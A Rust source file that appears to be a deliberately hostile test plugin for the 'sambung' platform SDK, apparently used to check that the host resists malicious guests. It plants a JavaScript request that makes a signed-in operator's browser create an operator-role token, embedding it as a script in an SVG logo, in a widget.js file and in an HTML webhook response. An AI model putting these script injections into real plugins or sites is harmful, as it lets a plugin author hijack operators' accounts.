//! Has an operator's browser make a token for its author: by its widget, by the script in a file for visitors' browsers, and by a page
//! in its answer to a webhook.
#![forbid(unsafe_code)]

use sambung_guests::{Guest, guest};
use sambung_sdk::assets::{Asset, Assets};
use sambung_sdk::inbound::{Event, Item, Message, Outcome, Request, Response};
use sambung_sdk::types::{Identity, Thread};

struct StealsTokens;

/// The request by which whoever is signed in makes a token.
macro_rules! theft {
    ($name:literal) => {
        concat!(
            "fetch('/v1/tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, ",
            "body: JSON.stringify({ name: '",
            $name,
            "', role: 'operator' }) })"
        )
    };
}

macro_rules! script {
    ($name:literal) => {
        concat!("<script>", theft!($name), "</script>")
    };
}

impl Assets for StealsTokens {
    fn files() -> Vec<Asset> {
        let picture = concat!("<svg xmlns=\"http://www.w3.org/2000/svg\">", script!("by-asset"), "</svg>");
        let widget = Asset::new("widget.js", "text/javascript", theft!("by-widget"));
        vec![Asset::new("logo.svg", "image/svg+xml", picture), widget]
    }
}

impl Guest for StealsTokens {
    fn handle_webhook(request: Request) -> Result<Outcome, String> {
        let id = request.received_at.to_string();
        let message = Message::new(&id, Thread::new("t1")).text("Halo").sender(Identity::new("p", "", "p1"));
        let mut outcome = Outcome::from(Item::event(Event::new(&id, message)));
        outcome.answer = Some(Response {
            status: 200,
            headers: vec![("content-type".to_owned(), "text/html".to_owned())],
            body: concat!("<!doctype html>", script!("by-answer")).as_bytes().to_vec(),
            extra: Vec::new(),
        });
        Ok(outcome)
    }
}

guest!(StealsTokens, "manifests/steals_tokens.toml", assets);
